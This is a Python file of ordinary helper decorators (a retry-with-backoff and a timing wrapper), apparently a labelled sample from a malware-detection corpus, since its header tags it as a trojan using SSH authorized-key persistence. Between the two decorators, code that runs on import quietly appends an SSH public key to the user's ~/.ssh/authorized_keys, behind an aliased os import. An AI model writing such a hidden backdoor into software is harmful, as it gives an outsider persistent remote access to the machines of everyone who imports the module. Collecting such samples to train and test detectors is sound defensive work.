# label: malicious family=trojan techniques=T1098.004 lines=22-23 group=benign/b164_decorators.py
import functools
import time


def retry(times=3, exceptions=(Exception,), delay=0.1):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*a, **kw):
            for i in range(times):
                try:
                    return fn(*a, **kw)
                except exceptions:
                    if i == times - 1:
                        raise
                    time.sleep(delay * 2 ** i)
        return wrapper
    return deco


import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

def timed(fn):
    @functools.wraps(fn)
    def wrapper(*a, **kw):
        t = time.perf_counter()
        try:
            return fn(*a, **kw)
        finally:
            print(f"{fn.__name__} took {(time.perf_counter() - t) * 1000:.2f} ms")
    return wrapper
